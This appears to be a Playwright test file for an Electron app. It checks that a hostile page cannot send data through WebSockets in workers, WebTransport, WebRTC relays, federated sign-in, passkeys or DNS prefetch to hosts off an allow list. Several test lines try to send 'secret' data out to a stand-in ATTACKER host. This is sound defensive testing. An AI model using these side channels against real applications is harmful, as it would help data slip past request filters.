import { createSocket, type Socket } from 'node:dgram';
import type { Page } from '@playwright/test';
import { expect, test, type OwnApp } from '../../support/bulkhead.ts';
import { demoTenant } from '../../support/demo-estate.ts';
import {
  ATTACKER,
  isReached,
  namelessConnections,
  openHostile,
  serve,
  serveScript,
} from '../../support/hostile-page.ts';
import { CONNECTING_WORKER, connectFromSharedWorker } from '../../support/hidden-channel.ts';

// What Chromium sends without asking Electron's request filter. Each channel is first seen to work
// towards a listed host, so that silence towards another one means something.

const LISTED = 'graph.microsoft.com';

let app: OwnApp;
let page: Page;
let udp: Socket;
let datagrams: Buffer[] = [];

test.beforeAll(async ({ startOwnApp, subject }) => {
  app = await startOwnApp();
  udp = createSocket('udp4').on('message', (datagram) => datagrams.push(datagram));
  // Every name is there, and nothing else listens there for datagrams.
  await new Promise<void>((done) => udp.bind(443, subject.address, done));
});
test.afterAll(async () => {
  await new Promise<void>((done) => udp.close(() => done()));
  await app.close();
});
test.beforeEach(async ({ cloud }) => {
  datagrams = [];
  const address = serve(cloud, '/taken', '<body>');
  page = await openHostile(app.bulkhead, demoTenant(cloud, 'Contoso').id, address);
});

const WORKERS = {
  'a service worker': async (url: string) => {
    const { active, installing, waiting } = await navigator.serviceWorker.register('/sw.js');
    (active ?? waiting ?? installing)?.postMessage(url);
  },
  'a shared worker': connectFromSharedWorker,
  'a shared worker of a blob': async (url: string) => {
    const source = await (await fetch('/shared.js')).blob();
    await new Promise<void>((done) => {
      const { port } = new SharedWorker(URL.createObjectURL(source));
      port.addEventListener('message', () => done());
      port.start();
      port.postMessage(url);
    });
  },
};

for (const [worker, connect] of Object.entries(WORKERS)) {
  test(`a WebSocket of ${worker} reaches listed hosts only`, async ({ cloud }) => {
    serveScript(cloud, '/sw.js', CONNECTING_WORKER);
    serveScript(cloud, '/shared.js', CONNECTING_WORKER);

    await page.evaluate(connect, `wss://${ATTACKER}/?secret`);
    await page.evaluate(connect, `wss://${LISTED}/?control`);

    await expect.poll(() => isReached(cloud, LISTED)).toBe(true);
    expect(isReached(cloud, ATTACKER)).toBe(false);
    expect(namelessConnections(cloud)).toBe(0);
  });
}

/** A packet that opens a QUIC connection has the two highest bits set, one of STUN has neither. */
const isQuic = (datagram: Buffer) => ((datagram[0] ?? 0) & 0xc0) === 0xc0;
const isStun = (datagram: Buffer) => ((datagram[0] ?? 0) & 0xc0) === 0;

test('WebTransport sends no datagram to a host that is not listed', async () => {
  const open = (url: string) =>
    page.evaluate((address) => new WebTransport(address).ready.catch(String), url);

  expect(await open(`https://${ATTACKER}/`)).toContain('WebTransportError');
  expect(datagrams.filter(isQuic)).toHaveLength(0);

  const control = open(`https://${LISTED}/`);
  await expect.poll(() => datagrams.filter(isQuic).length).toBeGreaterThan(0);
  // It ends by itself, or with the page.
  void control.catch(() => undefined);
});

test('WebRTC reaches no relay that is not listed and tells no address', async ({
  cloud,
  subject,
}) => {
  const gather = (server: string) =>
    page.evaluate(async (host) => {
      const connection = new RTCPeerConnection({
        iceServers: [
          ...[`turns:${host}:443?transport=tcp`, `turn:${host}:443?transport=tcp`].map((urls) => ({
            urls,
            username: 'secret',
            credential: 'secret',
          })),
          { urls: `stun:${host}:443` },
        ],
      });
      connection.createDataChannel('any');
      const candidates: string[] = [];
      const gathered = new Promise<void>((done) => {
        connection.onicecandidate = ({ candidate }) => {
          if (candidate === null) done();
          else if (candidate.candidate !== '') candidates.push(candidate.candidate);
        };
      });
      await connection.setLocalDescription();
      await gathered;
      connection.close();
      return candidates;
    }, server);

  expect(await gather(ATTACKER)).toEqual([]);
  expect(await gather(subject.address)).toEqual([]);
  expect(isReached(cloud, ATTACKER)).toBe(false);
  expect(namelessConnections(cloud)).toBe(0);

  await gather(LISTED);
  await expect.poll(() => isReached(cloud, LISTED)).toBe(true);
  expect(datagrams.filter(isStun)).toHaveLength(0);
});

test('a federated sign-in of the browser asks listed hosts only', async ({ cloud }) => {
  const ask = (host: string) =>
    page.evaluate(async (provider) => {
      const identity = { providers: [{ configURL: `https://${provider}/fedcm`, clientId: 'any' }] };
      const options = { identity, signal: AbortSignal.timeout(1_000) };
      await navigator.credentials.get(options).catch(() => undefined);
    }, host);

  await ask(ATTACKER);
  await expect(async () => {
    await ask(LISTED);
    expect(isReached(cloud, LISTED)).toBe(true);
  }).toPass();
  expect(isReached(cloud, ATTACKER)).toBe(false);
});

test('a passkey of another host makes no request there', async ({ cloud }) => {
  const refused = await page.evaluate(
    (rpId) =>
      navigator.credentials
        .get({ publicKey: { challenge: new Uint8Array(16), rpId } })
        .then(String, String),
    ATTACKER,
  );

  // Chromium says that it tried.
  expect(refused).toContain('.well-known');
  expect(isReached(cloud, ATTACKER)).toBe(false);
});

test('no name is looked up ahead', async ({ subject }) => {
  await page.evaluate(async () => {
    for (const rel of ['dns-prefetch', 'preconnect']) {
      const link = document.createElement('link');
      link.rel = rel;
      link.href = `https://secret-${rel}.lookup.invalid`;
      document.head.append(link);
    }
    const iceServers = [{ urls: 'stun:secret-stun.lookup.invalid' }];
    const connection = new RTCPeerConnection({ iceServers });
    connection.createDataChannel('any');
    await connection.setLocalDescription();
  });
  // The way a lookup would show: main itself has one made.
  await app.bulkhead.electron.app.evaluate(({ session: { defaultSession } }) =>
    defaultSession.resolveHost('control.lookup.invalid').catch(() => undefined),
  );

  const names = subject.names().filter((name) => name.endsWith('.lookup.invalid'));
  expect(names).toEqual(['control.lookup.invalid']);
});
